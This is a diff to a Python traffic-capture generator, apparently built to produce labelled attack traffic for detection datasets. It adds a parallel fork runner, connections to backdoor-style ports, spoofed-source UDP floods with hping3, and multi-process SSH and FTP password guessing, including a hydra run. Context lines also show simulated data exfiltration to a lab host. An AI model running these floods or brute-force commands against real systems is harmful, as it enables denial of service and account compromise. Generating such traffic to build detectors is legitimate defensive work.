@@ -185,6 +185,19 @@ def guess_ftp(server, pause, count):
         time.sleep(pause)
 
 
+def many(count, what, *arguments):
+    """The same so many times at once."""
+    children = []
+    for _ in range(count):
+        child = os.fork()
+        if child == 0:
+            globals()[what](*arguments)
+            os._exit(0)
+        children.append(child)
+    for child in children:
+        os.waitpid(child, 0)
+
+
 def guess_http(server, pause, count):
     for number in range(count):
         run(f"curl -s -m 5 -u admin:{PASSWORDS[number % len(PASSWORDS)]}{number} http://{server}/admin/login", check=False)
@@ -203,6 +216,28 @@ def beacon(server, port, pause, jitter, seconds, size):
         except OSError:
             pass
         time.sleep(pause * random.uniform(1 - jitter, 1 + jitter))
+
+
+def silent(server, seconds):
+    """Calls to several hosts and ports where nobody answers, each as long as the kernel tries."""
+    import socket
+    import threading
+    until = time.time() + seconds
+
+    def call(port, pause):
+        while time.time() < until:
+            try:
+                with socket.create_connection((server, port), timeout=min(20, max(1, until - time.time()))):
+                    pass
+            except OSError:
+                pass
+            time.sleep(pause)
+
+    threads = [threading.Thread(target=call, args=pair) for pair in ((6667, 3), (4444, 8), (1337, 15), (48101, 1))]
+    for thread in threads:
+        thread.start()
+    for thread in threads:
+        thread.join()
 
 
 def scan_connect(server, first, last, pause):
@@ -266,6 +301,9 @@ CAPTURES = {
     "flood-syn-many": (20, [f"hping3 -S -p 80 --rand-source -i u300 -c 4000 {W}"]),
     "flood-syn-dropped": (20, [f"hping3 -S -p 8443 -i u200 -c 4000 {S}"]),
     "flood-udp": (20, [f"hping3 --udp -p 53 -d 120 -i u300 -c 3000 {S}", f"hping3 --udp -p 5000 -d 60 -i u300 -c 2000 {W}"]),
+    "flood-udp-closed": (20, [f"hping3 --udp -p 33000 -d 500 -i u300 -c 3000 {W}"]),
+    "flood-udp-many": (20, [f"hping3 --udp -p 53 -d 40 --rand-source -i u400 -c 3000 {W}"]),
+    "flood-udp-ports": (20, [f"hping3 --udp -p ++1000 -d 1000 -i u300 -c 3000 {S}"]),
     "flood-icmp": (20, [f"hping3 --icmp -d 600 -i u400 -c 3000 {W}", f"hping3 --icmp --rand-source -i u400 -c 2000 {W}"]),
     "flood-ack": (20, [f"hping3 -A -p 80 -i u300 -c 3000 {W}", f"hping3 -R -p 22 -i u500 -c 1500 {W}"]),
     "flood-slow": (40, [mine("hold_open", W, 200, 35)]),
@@ -275,11 +313,18 @@ CAPTURES = {
     "guess-ssh-slow": (60, [mine("guess_ssh", S, 3, 30, 2)]),
     "guess-ftp-hydra": (50, [f"hydra -I -t 8 -l admin -P {LIST} ftp://{W}"]),
     "guess-ftp-script": (60, [mine("guess_ftp", W, 0.2, 60)]),
+    "guess-ssh-wide": (100, [mine("many", 8, "guess_ssh", W, 0.1, 60, 1)]),
+    "guess-ssh-rounds": (100, [mine("many", 5, "guess_ssh", S, 0.5, 60, 3)]),
+    "guess-ftp-wide": (80, [mine("many", 12, "guess_ftp", S, 0.1, 60)]),
+    "guess-ftp-slow": (100, [mine("many", 2, "guess_ftp", W, 1.5, 60)]),
+    "guess-ssh-hydra-long": (110, [f"hydra -I -t 6 -l oracle -P {LIST} ssh://{W}"]),
     "guess-http": (45, [mine("guess_http", W, 0.05, 500)]),
     "beacon-fast": (60, [mine("beacon", F, 6667, 1, 0.1, 58, 75)]),
     "beacon-slow": (118, [mine("beacon", F, 6667, 5, 0.3, 116, 140)]),
     "beacon-dead": (100, [mine("beacon", F, 4444, 4, 0.1, 95, 60)]),
     "beacon-unanswered": (100, [mine("beacon", S, 6668, 3, 0.2, 95, 60)]),
+    "beacon-dead-many": (110, [mine("many", 6, "beacon", S, 6667, 7, 0.2, 105, 60)]),
+    "beacon-silent": (115, [mine("silent", S, 110)]),
     "carry-web": (40, [f"sh -c 'head -c {size}000000 /dev/zero | curl -s -m 30 -T - http://{F}:443/up'" for size in (30, 80, 150)]),
     "carry-ssh": (40, [f"sh -c 'head -c {size}000000 /dev/zero | ssh -i KEY -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null root@{F} \"cat >/dev/null\"'" for size in (25, 60, 120)]),
     "carry-names": (45, [mine("carry_by_names", F, 900)]),
